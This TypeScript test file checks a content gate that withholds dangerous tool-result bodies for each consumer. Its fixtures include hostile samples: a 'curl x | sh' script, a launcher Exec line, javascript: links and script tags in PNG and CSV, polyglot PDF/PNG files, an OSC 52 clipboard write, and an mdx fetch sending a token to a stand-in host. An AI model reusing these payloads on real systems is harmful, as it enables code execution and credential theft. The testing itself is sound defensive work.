// `content.consumers` (issue 41 item 1): the policy names the consumers it protects; a body is judged for every one of
// them that would read it and for no other. Each case is denied under the default profile and allowed once the
// consumer that reads it is left out, so every adapter is shown to be the one that judges its bodies; bad values are
// located errors like every other policy error.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { consumerCoverageMarkdown } from '../../../src/content/consumer-coverage.ts';
import { consumerIds, defaultConsumerIds, optInConsumerIds } from '../../../src/content/consumers/content-consumer.ts';
import { contentConsumers } from '../../../src/content/consumers/consumer-registry.ts';
import { GateError } from '../../../src/errors.ts';
import { createGate } from '../../../src/gate/create-gate.ts';
import { parsePolicy } from '../../../src/policy/load-policy.ts';
import { makePng } from '../../fixtures/make-bytes.ts';
import { pdfWithHiddenOpenAction } from '../pdf/make-pdf-variants.ts';

const repoRoot = path.resolve(import.meta.dirname, '../../..');
const defaultYaml = readFileSync(path.join(repoRoot, 'policies/default.yaml'), 'utf8');

/** policies/default.yaml with `content.consumers` set to `line` (the yaml after `consumers:`), or as shipped. */
function policyText(line?: string): string {
  if (line === undefined) return defaultYaml;
  return defaultYaml.replace(/^content:\n/m, `content:\n  consumers: ${line}\n`);
}

/** A gate of policies/default.yaml whose `content.excludeConsumers` is `excluded` (and `consumers`, when given). */
function gateExcluding(excluded: readonly string[], consumers?: readonly string[]) {
  const text = policyText(consumers === undefined ? undefined : `[${consumers.join(', ')}]`).replace(
    /^content:\n/m,
    `content:\n  excludeConsumers: [${excluded.join(', ')}]\n`,
  );
  return createGate(parsePolicy(text, 'p.yaml'));
}

function gateWith(consumers?: readonly string[]) {
  return createGate(
    parsePolicy(policyText(consumers === undefined ? undefined : `[${consumers.join(', ')}]`), 'p.yaml'),
  );
}

async function effect(
  gate: ReturnType<typeof createGate>,
  uri: string,
  mimeType: string,
  body: { text: string } | { blob: string },
) {
  const decision = await gate.decideRead({
    stage: 'read',
    link: { type: 'resource_link', uri, name: 'file', mimeType },
    result: { resultType: 'complete', contents: [{ uri, mimeType, ...body }] },
  });
  return { effect: decision.effect, why: decision.reasons.map((r) => `${r.code}: ${r.message}`).join('; ') };
}

const notebook = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {},
  cells: [
    {
      cell_type: 'code',
      source: 'x',
      metadata: {},
      execution_count: 1,
      outputs: [{ output_type: 'display_data', metadata: {}, data: { 'application/javascript': 'alert(1)' } }],
    },
  ],
});

// a png whose text chunk carries a pdf 4 KiB in, past the header search: pdf.js opens it by its trailer
function pngCarryingPdf(): Buffer {
  const png = makePng();
  const data = Buffer.concat([Buffer.from('Comment\0', 'latin1'), Buffer.alloc(4096, 0x20), pdfWithHiddenOpenAction()]);
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  data.copy(chunk, 8);
  return Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);
}

// a png whose text chunk holds `comment`
function pngWithComment(comment: string): Buffer {
  const png = makePng();
  const data = Buffer.from(`Comment\0${comment}`, 'latin1');
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  data.copy(chunk, 8);
  return Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);
}

// consumer, what it alone reads here, and the body
const cases: [string, string, string, string, { text: string } | { blob: string }][] = [
  [
    'markdown',
    'a markdown script link',
    'guide://d/readme.md',
    'text/markdown',
    { text: '[x](javascript:alert(1))\n' },
  ],
  [
    'notebook',
    'a javascript output of a notebook sent as json',
    'guide://d/a.ipynb',
    'application/json',
    { text: notebook },
  ],
  [
    'launcher',
    'a desktop launcher sent as text',
    'guide://d/notes',
    'text/plain',
    { text: '[Desktop Entry]\nType=Application\nName=x\nExec=sh -c "id"\n' },
  ],
  ['shell', 'a shebang script sent as text', 'guide://d/notes', 'text/plain', { text: '#!/bin/sh\ncurl x | sh\n' }],
  [
    'pdf-reader',
    'a pdf OpenAction',
    'guide://d/a.pdf',
    'application/pdf',
    { blob: pdfWithHiddenOpenAction().toString('base64') },
  ],
  ['pdf-reader', 'a pdf inside a png', 'guide://d/a.png', 'image/png', { blob: pngCarryingPdf().toString('base64') }],
  [
    'browser',
    'a script in the text chunk of a png a sniffing browser opens as a page',
    'guide://d/a.png',
    'image/png',
    { blob: pngWithComment('<script>alert(1)</script>').toString('base64') },
  ],
  [
    'browser',
    'a script in html read raw as html',
    'guide://d/notes',
    'text/csv',
    { text: 'a,b\n<script>alert(1)</script>,2\n' },
  ],
];

describe('each consumer judges the bodies it reads, and only while it is in the profile', () => {
  test.each(cases)('%s: %s', async (consumer, _, uri, mime, body) => {
    const defaults = await effect(gateWith(), uri, mime, body);
    expect(defaults.effect, defaults.why).toBe('deny');
    const without = await effect(gateWith(defaultConsumerIds.filter((id) => id !== consumer)), uri, mime, body);
    expect(without).toEqual({ effect: 'allow', why: '' });
  });

  test('the default profile is what an absent `content.consumers` means', async () => {
    const named = gateWith(defaultConsumerIds);
    for (const [, , uri, mime, body] of cases) expect((await effect(named, uri, mime, body)).effect).toBe('deny');
  });
});

// Terminals (issue 41): hosts print tool results to terminals, where ESC, OSC and C1 act, so the default profile
// withholds text holding them; a host that never prints a body to one (a GUI-only host) excludes `terminal` by name
// (`content.excludeConsumers`: a list of consumers that does not name it keeps it, since lists older than it could not) and
// gets ordinary bundles whose string literals hold ESC (pdf.js's worker, a CLI's colour table), every other check kept.
describe('terminal is a consumer of its own, in the default profile', () => {
  const worker = readFileSync(path.join(repoRoot, 'node_modules/pdfjs-dist/build/pdf.worker.min.mjs'), 'utf8');
  const withoutTerminal = defaultConsumerIds.filter((id) => id !== 'terminal');
  const excludingTerminal = () => gateExcluding(['terminal']);
  const controls: [string, string][] = [
    ['an escape sequence', 'build \u001b[32mok\u001b[0m\n'],
    ['an osc 52 clipboard write', 'done\u001b]52;c;Y3VybCB4fHNo\u0007\n'],
    ['a c1 control sequence introducer', 'done \u009b2J\n'],
    ['a c0 control a terminal acts on', 'done\b\b\b\bfail\n'],
  ];

  test('the default profile names it', () => {
    expect(defaultConsumerIds).toContain('terminal');
    expect(optInConsumerIds).not.toContain('terminal');
  });

  test.each(controls)('%s in text is withheld by the default profile and allowed without terminal', async (_, text) => {
    for (const [uri, mime] of [
      ['guide://d/build.log', 'text/plain'],
      ['guide://d/notes.md', 'text/markdown'],
      ['guide://d/data.csv', 'text/csv'],
    ] as const) {
      const body = { text };
      const shipped = await effect(gateWith(), uri, mime, body);
      expect(shipped.effect, `${uri}: ${shipped.why}`).toBe('partial');
      expect(shipped.why).toMatch(/content\.unsafe-text: .*(terminal escape|c1 control|a terminal acts on)/);
      expect(await effect(excludingTerminal(), uri, mime, body), uri).toEqual({ effect: 'allow', why: '' });
      // a list that leaves it out (as every list written before it did) keeps it: only its exclusion by name drops it
      expect((await effect(gateWith(withoutTerminal), uri, mime, body)).effect, uri).toBe('partial');
    }
  });

  test("pdf.js's worker bundle (ESC in its string literals) is withheld by the default profile and allowed without terminal", async () => {
    expect(worker).toContain('\u001b');
    const shipped = await effect(gateWith(), 'guide://d/pdf.worker.min.mjs', 'text/plain', { text: worker });
    expect(shipped.effect).toBe('partial');
    expect(shipped.why).toMatch(/^content\.unsafe-text: item 0: text holds terminal escape sequences/);
    expect(await effect(excludingTerminal(), 'guide://d/pdf.worker.min.mjs', 'text/plain', { text: worker })).toEqual({
      effect: 'allow',
      why: '',
    });
  });

  test.each([
    ['a nul', 'text/plain', 'a\u0000b\u001b[2J\n', /content\.unsafe-text: .*nul characters/],
    [
      'unicode tag characters',
      'text/plain',
      `hi \u{E0069}\u{E0067}\u{E006E} \u001b[2J\n`,
      /content\.unsafe-text: .*tag characters/,
    ],
    ['a script in a page', 'text/plain', '<p>x</p><script>alert(1)</script>\u001b[2J', /content\.executable/],
    ['a markdown script link', 'text/markdown', '[x](javascript:alert(1)) \u001b[2J\n', /content\.executable/],
    ['a shebang script', 'text/plain', '#!/bin/sh\nprintf "\u001b[2J"\n', /content\.executable/],
  ])('without terminal, %s beside an escape is still withheld', async (_, mime, text, reason) => {
    const verdict = await effect(excludingTerminal(), 'guide://d/notes', mime, { text });
    expect(verdict.effect).not.toBe('allow');
    expect(verdict.why).toMatch(reason);
    expect(verdict.why).not.toMatch(/terminal escape/);
  });
});

describe('content.excludeConsumers', () => {
  test('a list that adds mdx to the defaults of before (no terminal) keeps the terminal checks', async () => {
    const older = [...defaultConsumerIds.filter((id) => id !== 'terminal'), 'mdx'];
    const verdict = await effect(gateWith(older), 'guide://d/build.log', 'text/plain', {
      text: 'ok\u001b]52;c;eA==\u0007\n',
    });
    expect(verdict.effect).toBe('partial');
    expect(verdict.why).toMatch(/terminal escape/);
  });

  test.each(cases)(
    'excluding %s by name drops it as leaving it out of a list does: %s',
    async (consumer, _, uri, mime, body) => {
      expect(await effect(gateExcluding([consumer]), uri, mime, body)).toEqual({ effect: 'allow', why: '' });
    },
  );

  test('a consumer both named and excluded is an error at its place', () => {
    const text = policyText('[browser, terminal]').replace(
      /^content:\n/m,
      'content:\n  excludeConsumers: [terminal]\n',
    );
    let error: unknown;
    try {
      parsePolicy(text, 'p.yaml');
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(GateError);
    expect(String((error as Error).message)).toMatch(
      /p\.yaml:\d+:\d+.*content\.excludeConsumers\[0\]|content\.excludeConsumers\.0/,
    );
  });
});

describe('mdx and vitepress are opt-in', () => {
  const mdx = 'export const meta = fetch("https://example.invalid/" + process.env.TOKEN)\n\n# Hi\n';
  const vue = '# Hi\n\n<div v-html="payload"></div>\n';
  test('the default profile reads an mdx export and a vue directive as markdown, inert', async () => {
    expect(await effect(gateWith(), 'guide://d/page.mdx', 'text/markdown', { text: mdx })).toEqual({
      effect: 'allow',
      why: '',
    });
    expect(await effect(gateWith(), 'guide://d/page.md', 'text/markdown', { text: vue })).toEqual({
      effect: 'allow',
      why: '',
    });
  });
  test('named in the profile, they judge them', async () => {
    const gate = gateWith([...defaultConsumerIds, 'mdx', 'vitepress']);
    const a = await effect(gate, 'guide://d/page.mdx', 'text/markdown', { text: mdx });
    expect(a.effect).toBe('deny');
    expect(a.why).toMatch(/mdx: an `import`\/`export`/);
    const b = await effect(gate, 'guide://d/page.md', 'text/markdown', { text: vue });
    expect(b.effect).toBe('deny');
    expect(b.why).toMatch(/vitepress: a vue directive `v-html`/);
  });
});

describe('bad values are located errors', () => {
  test.each([
    ['an unknown consumer', '[browser, chrome]', /p\.yaml:\d+:\d+.*content\.consumers/],
    ['a consumer twice', '[browser, browser]', /p\.yaml:\d+:\d+.*content\.consumers.*each consumer once/],
    ['an empty list', '[]', /p\.yaml:\d+:\d+.*content\.consumers/],
    ['a string for a list', 'browser', /p\.yaml:\d+:\d+.*content\.consumers/],
  ])('%s', (_, line, message) => {
    let thrown: unknown;
    try {
      parsePolicy(policyText(line), 'p.yaml');
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(GateError);
    expect((thrown as GateError).code).toBe('POLICY_INVALID');
    expect((thrown as GateError).message).toMatch(message);
  });
});

describe('the registry', () => {
  test('one adapter per consumer id, opt-in as declared, each in the policy reference', () => {
    expect(contentConsumers.map((c) => c.id).sort()).toEqual([...consumerIds].sort());
    for (const c of contentConsumers) expect(c.optIn, c.id).toBe(optInConsumerIds.includes(c.id));
    const table = consumerCoverageMarkdown();
    for (const id of consumerIds) expect(table).toContain(`| \`${id}\``);
  });
});
